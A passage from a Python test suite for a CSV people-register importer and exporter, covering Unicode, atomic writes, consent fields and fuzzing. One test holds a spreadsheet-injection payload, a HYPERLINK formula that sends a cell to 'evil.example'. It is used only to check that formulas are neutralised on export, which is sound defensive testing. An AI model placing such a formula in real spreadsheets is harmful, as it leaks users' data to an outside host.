        writer.writerow(["Name", "Email", "Organisation"])
        for index, name in enumerate(names):
            writer.writerow([name, f"p{index}@example.org", "مؤسسة 🚀"])
    parsed = _parse(path)
    assert [row.name for row in parsed.rows] == [
        unicodedata.normalize("NFC", name) for name in names
    ]
    assert parsed.rows[4].name == "José Fernández"
    assert all(row.organisation == "مؤسسة 🚀" for row in parsed.rows)
    assert parsed.problems == []


def test_formula_cells_are_kept_as_text_and_neutralised_on_write(tmp_path: Path) -> None:
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)"]
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Name", "Email", "Organisation"])
        for index, formula in enumerate(formulas):
            writer.writerow([formula, f"p{index}@example.org", formula])
    parsed = _parse(source)
    assert [row.name for row in parsed.rows] == formulas
    assert [row.organisation for row in parsed.rows] == formulas

    out = tmp_path / "people.csv"
    write_people_csv(
        out, ["Name", "Organisation"], [[row.name, row.organisation] for row in parsed.rows]
    )
    raw = out.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    assert b"\r\n" in raw
    assert b"\n" not in raw.replace(b"\r\n", b"")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        written = list(csv.reader(handle))
    assert written[0] == ["Name", "Organisation"]
    assert [row[0] for row in written[1:]] == ["'" + formula for formula in formulas]
    # Our own export reads back as the original text.
    again = _parse(out)
    assert [row.name for row in again.rows] == formulas


# --------------------------------------------------------------------------------------------
# Writing


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5", "'-5"),
        ("@handle", "'@handle"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("'=1", "''=1"),
        ("Ana", "Ana"),
        ("'t Hooft", "'t Hooft"),
        ("a=b", "a=b"),
        ("", ""),
        ("   ", "   "),
    ],
)
def test_neutralise_formula(cell: str, safe: str) -> None:
    assert neutralise_formula(cell) == safe


def test_write_people_csv_is_atomic_and_writes_none_as_empty(tmp_path: Path) -> None:
    out = tmp_path / "people.csv"
    out.write_text("old content\n", encoding="utf-8")
    write_people_csv(out, ["Name", "Email"], [["Zoë", None], ["Ann, Lee", "a@b.org"]])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["people.csv"]
    assert (
        out.read_bytes()
        == codecs.BOM_UTF8 + 'Name,Email\r\nZoë,\r\n"Ann, Lee",a@b.org\r\n'.encode()
    )
    with pytest.raises(FileNotFoundError):
        write_people_csv(tmp_path / "missing" / "x.csv", ["Name"], [])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["people.csv"]


def test_our_own_people_export_reads_back(tmp_path: Path) -> None:
    """The register's export (``people export``) can be edited and imported again."""
    out = tmp_path / "people.csv"
    header = ["id", "name", "email", "organisation", "role", "minor"]
    header += [f"consent_{use}" for use in USES] + ["photos"]
    write_people_csv(
        out,
        header,
        [
            ["1", "Ana", "ana@example.org", None, "speaker", "no", "granted", "refused",
             "unknown", "withdrawn", "3"],
            ["2", "-Bo", None, "@org", "other", "yes", "granted", "granted", "granted",
             "granted", "0"],
        ],
    )  # fmt: skip
    parsed = _parse(out)
    ana, bo = parsed.rows
    assert ana.consent == {"web": G, "social": R, "print": None, "internal": R}
    assert (ana.role, ana.minor, ana.evidence) == ("speaker", False, "people.csv row 2, id 1")
    assert (bo.name, bo.organisation, bo.minor, bo.consent) == ("-Bo", "@org", True, ALL_GRANTED)
    assert parsed.problems == []


_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\t\r\n '=+-@\""),
    max_size=30,
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(people=st.lists(st.tuples(_TEXT, _TEXT), min_size=1, max_size=6))
def test_round_trip_through_our_own_export(tmp_path: Path, people: list[tuple[str, str]]) -> None:
    """Whatever names and organisations we write, we read back (whitespace/NFC normalised)."""

    def clean(text: str) -> str:
        return " ".join(unicodedata.normalize("NFC", text).split())

    path = tmp_path / "round.csv"
    rows = [[name, f"p{index}@example.org", org] for index, (name, org) in enumerate(people)]
    write_people_csv(path, ["Name", "Email", "Organisation"], rows)
    parsed = parse_registration_csv(path)
    expected = [(clean(name), clean(org) or None) for name, org in people if clean(name)]
    assert [(row.name, row.organisation) for row in parsed.rows] == expected
    assert [p.message for p in parsed.problems] == ["no name; row skipped"] * (
        len(people) - len(expected)
    )
    assert parsed.delimiter == ","
    assert parsed.encoding == "utf-8-sig"


def test_answer_vocabulary_roles_are_the_register_roles() -> None:
    assert {role for role, _ in reg._ROLE_KEYWORDS} | {"other"} == set(ROLES)


_CSV_PIECES = st.sampled_from(
    [
        "Name", "Email", "Photo consent", "First name", "Age", "Date of birth", "Role", ",",
        ";", "\t", '"', '""', "\n", "\r\n", "yes", "no", "maybe", "=1+1", "Zoë", "05/06/2009",
        "17", "Under 18", "a@b.org", "sep=;", " ", "\u2028", "✓", "Order #", "x",
    ]
)  # fmt: skip


@settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    content=st.one_of(
        st.binary(max_size=300),
        st.lists(_CSV_PIECES, max_size=40).map(lambda parts: "".join(parts).encode()),
        st.text(max_size=80).map(lambda text: text.encode("utf-8", "surrogatepass")),
    )
)
def test_any_input_gives_people_or_a_user_error(tmp_path: Path, content: bytes) -> None:
    """Nothing crashes: arbitrary bytes are either read or refused with a one-line message."""
    path = tmp_path / "fuzz.csv"
    path.write_bytes(content)
    try:
        parsed = _parse(path)
    except UserError as error:
        assert "\n" not in str(error)
        return
    for row in parsed.rows:
        assert row.name == row.name.strip() and row.name
        assert set(row.consent) == set(USES)
        assert row.role is None or row.role in ROLES
    for problem in parsed.problems:
        assert "\n" not in problem.message and "\r" not in problem.message
